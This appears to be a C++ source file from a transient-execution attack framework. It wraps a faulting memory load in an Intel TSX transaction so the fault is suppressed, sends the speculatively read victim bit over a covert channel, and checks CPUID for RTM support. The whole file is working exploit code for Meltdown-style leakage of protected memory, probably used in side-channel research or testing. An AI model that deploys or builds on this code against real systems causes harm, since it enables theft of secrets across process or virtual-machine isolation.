// SPDX-License-Identifier: MIT
// The faulting load inside a transaction: the fault aborts it, and is never raised.
#include "guest/attacks/faulting_load.h"

extern "C" {
/// Calls `transaction_send` with the arguments, in a transaction that it aborts.
attacks::TransientSend send_in_transaction;
attacks::TransientSend* transaction_send = nullptr;
}

asm(R"(
    .pushsection .text
    .balign 64
    .globl send_in_transaction
    .type send_in_transaction, @function
send_in_transaction:
    xbegin 1f
    call *transaction_send(%rip)
    xend
1:  ret
    .size send_in_transaction, . - send_in_transaction
    .popsection
)");

namespace attacks {

namespace {

class TransactionReader final : public TransientReader {
public:
    TransactionReader(Portion portion, Sending sending) {
        transaction_send = transient_send(portion, sending);
    }

    void attempt(const Attempt& attempt) override {
        load_.prepare(attempt.window);
        send_in_transaction(load_.slow(), load_.guard(attempt), attempt.victim, attempt.channel,
                            attempt.zero_channel, attempt.bit);
    }

private:
    FaultingLoad load_;
};

}  // namespace

std::unique_ptr<TransientReader> make_transaction_reader(Portion portion, Sending sending) {
    return std::make_unique<TransactionReader>(portion, sending);
}

bool has_transactions() {
    constexpr std::uint32_t leaf = 7;
    constexpr std::uint32_t rtm = 1U << 11U;
    std::uint32_t highest = 0;
    std::uint32_t b = 0;
    std::uint32_t c = 0;
    std::uint32_t d = 0;
    asm volatile("cpuid" : "=a"(highest), "=b"(b), "=c"(c), "=d"(d) : "a"(0), "c"(0));
    if (highest < leaf) {
        return false;
    }
    std::uint32_t a = 0;
    asm volatile("cpuid" : "=a"(a), "=b"(b), "=c"(c), "=d"(d) : "a"(leaf), "c"(0));
    return (b & rtm) != 0;
}

}  // namespace attacks
